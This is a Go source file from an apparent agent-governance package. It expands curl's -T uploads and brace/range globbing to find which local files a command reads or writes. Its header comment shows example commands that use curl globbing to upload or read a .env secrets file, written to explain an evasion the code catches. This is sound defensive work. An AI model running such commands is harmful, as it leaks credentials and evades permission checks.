package governance

import (
	"errors"
	"fmt"
	"path"
	"slices"
	"strconv"
	"strings"

	"github.com/acp-bridge/acp-bridge/internal/shellcmd"
)

// curl uploads with -T (--upload-file, or any prefix of it, its long
// names in any case): to a file: URL that writes the file the URL names,
// and to one ending in "/" the file of the uploaded one's name inside it.
// curl expands {a,b} and [a-z] itself, in a URL and in -T's value, unless
// -g (--globoff): "curl -T '{a,.env}' http://h/" reads .env, and "curl
// 'file:///ws/.e[m-n]v'" reads /ws/.env.

// curlUpload is what a curl form uploads, as far as the file URLs it
// writes go.
type curlUpload struct {
	// uploads says the form has -T: its URLs are written.
	uploads bool
	// globoff says -g turns curl's globbing off.
	globoff bool
	// values are the words holding -T's values (the option word itself
	// when the value is in it).
	values map[*shellcmd.Word]bool
	// files are -T's values.
	files []curlUploadFile
}

// curlUploadFile is one value of curl's -T.
type curlUploadFile struct {
	text string
	at   *shellcmd.Word
	// names are the files curl's globbing gives of text (text alone
	// when it has none); err says why they are not known.
	names []string
	err   error
}

// curlUploadOf returns what the curl form uploads (see above).
func curlUploadOf(form []shellcmd.Word) curlUpload {
	up := curlUpload{values: map[*shellcmd.Word]bool{}}
	valued := downloaders["curl"].valued
	for i := 1; i < len(form); i++ {
		t := form[i].Text
		if t == "--" {
			break
		}
		if form[i].Kind == shellcmd.Dynamic || !strings.HasPrefix(t, "-") || t == "-" {
			continue
		}
		take := func(v string, attached bool) {
			at := &form[i]
			if !attached {
				if i+1 >= len(form) {
					return
				}
				i++
				at, v = &form[i], form[i].Text
			}
			up.uploads, up.values[at] = true, true
			if at.Kind == shellcmd.Glob {
				v = shellcmd.Unescape(v)
			}
			if at.Kind != shellcmd.Dynamic {
				up.files = append(up.files, curlUploadFile{text: v, at: at})
			}
		}
		if n, v, eq, ok := longOption(t); ok {
			n = strings.ToLower(n)
			switch {
			case longPrefix(n, "upload-file"):
				take(v, eq)
			case len(n) >= 2 && longPrefix(n, "globoff"):
				up.globoff = true
			}
			continue
		}
		for j := 1; j < len(t); j++ {
			c := t[j]
			if c == 'g' {
				up.globoff = true
			}
			if c == 'T' {
				take(t[j+1:], j+1 < len(t))
				break
			}
			if strings.IndexByte(valued, c) >= 0 {
				if j+1 == len(t) {
					i++
				}
				break
			}
		}
	}
	for k := range up.files {
		f := &up.files[k]
		f.names = []string{f.text}
		if !up.globoff && strings.ContainsAny(f.text, "{[") {
			var names []string
			names, f.err = curlGlob(f.text, maxGlobMatches)
			f.names = append(f.names, names...)
		}
	}
	return up
}

// baseNames returns the last elements of the files curl uploads, the
// names it gives them inside a URL ending in "/" (standard input, "-" or
// ".", has none).
func (up curlUpload) baseNames() []string {
	var out []string
	for _, f := range up.files {
		for _, n := range f.names {
			if b := path.Base(n); n != "-" && n != "." && b != "/" && b != "." && b != ".." && !slices.Contains(out, b) {
				out = append(out, b)
			}
		}
	}
	return out
}

// curlUploadReads returns the files curl's globbing of the -T value f
// reads, each decided as a read, or the question on a value it cannot
// expand.
func curlUploadReads(f curlUploadFile) []argWord {
	a := argWord{word: shellcmd.Word{Kind: shellcmd.Static, Text: f.text}, text: f.text, readOnly: true, at: f.at}
	if f.err != nil {
		return []argWord{fileURLAsk(a, f.text, fmt.Sprintf("curl expands the name %q itself, and %v", f.text, f.err), false)}
	}
	var out []argWord
	for _, n := range f.names[1:] {
		b := a
		b.word.Text, b.text = n, n
		b.namedBy = "named by curl's expansion of " + strconv.Quote(f.text)
		out = append(out, b)
	}
	return out
}

// curlGlob returns the strings curl's globbing makes of s: each {a,b,...}
// set and [a-z] or [1-10] range (with a ":step") taken in turn, "\"
// before a brace or bracket taking it as written. err says s is no
// pattern curl takes, or gives more than most strings.
func curlGlob(s string, most int) ([]string, error) {
	out := []string{""}
	for i := 0; i < len(s); {
		var alts []string
		switch c := s[i]; {
		case c == '\\' && i+1 < len(s) && strings.IndexByte("{}[]", s[i+1]) >= 0:
			alts, i = []string{s[i+1 : i+2]}, i+2
		case c == '[' && strings.HasPrefix(s[i:], "[]"):
			alts, i = []string{"[]"}, i+2
		case c == '{':
			var items []string
			var cur strings.Builder
			j := i + 1
			for ; j < len(s) && s[j] != '}'; j++ {
				switch s[j] {
				case '{', '[':
					return nil, errors.New("a set holds a brace or bracket, which curl refuses")
				case ',':
					items = append(items, cur.String())
					cur.Reset()
				case '\\':
					if j+1 < len(s) {
						j++
					}
					cur.WriteByte(s[j])
				default:
					cur.WriteByte(s[j])
				}
			}
			if j == len(s) {
				return nil, errors.New("a set is not closed")
			}
			alts, i = append(items, cur.String()), j+1
		case c == '[':
			j := strings.IndexByte(s[i:], ']')
			if j < 0 {
				return nil, errors.New("a range is not closed")
			}
			var err error
			if alts, err = curlRange(s[i+1:i+j], most); err != nil {
				return nil, err
			}
			i += j + 1
		case c == ']' || c == '}':
			return nil, errors.New("a brace or bracket closes none")
		default:
			alts, i = []string{s[i : i+1]}, i+1
		}
		if len(out)*len(alts) > most {
			return nil, fmt.Errorf("it gives more than %d names", most)
		}
		next := make([]string, 0, len(out)*len(alts))
		for _, o := range out {
			for _, a := range alts {
				next = append(next, o+a)
			}
		}
		out = next
	}
	return out, nil
}

// curlRange returns what curl's range r (the text between "[" and "]")
// gives: letters ("a-z") or numbers ("1-10", "01-10" padded to the first
// one's width), with an optional ":step"; err for any other text, or one
// giving more than most.
func curlRange(r string, most int) ([]string, error) {
	bad := fmt.Errorf("the range [%s] is none curl reads", r)
	r, stepText, hasStep := strings.Cut(r, ":")
	step := 1
	if hasStep {
		n, err := strconv.Atoi(stepText)
		if err != nil || n < 1 {
			return nil, bad
		}
		step = n
	}
	lo, hi, ok := strings.Cut(r, "-")
	if !ok || lo == "" || hi == "" {
		return nil, bad
	}
	var out []string
	if len(lo) == 1 && len(hi) == 1 && isASCIILetter(lo[0]) && isASCIILetter(hi[0]) {
		if lo[0] > hi[0] {
			return nil, bad
		}
		for c := int(lo[0]); c <= int(hi[0]) && len(out) <= most; c += step {
			out = append(out, string(rune(c)))
		}
	} else {
		a, err1 := strconv.ParseUint(lo, 10, 32)
		b, err2 := strconv.ParseUint(hi, 10, 32)
		if err1 != nil || err2 != nil || a > b || lo[0] == '+' || hi[0] == '+' {
			return nil, bad
		}
		width := 0
		if len(lo) > 1 && lo[0] == '0' {
			width = len(lo)
		}
		for n := a; n <= b && len(out) <= most; n += uint64(step) {
			out = append(out, fmt.Sprintf("%0*d", width, n))
		}
	}
	if len(out) > most {
		return nil, fmt.Errorf("it gives more than %d names", most)
	}
	return out, nil
}
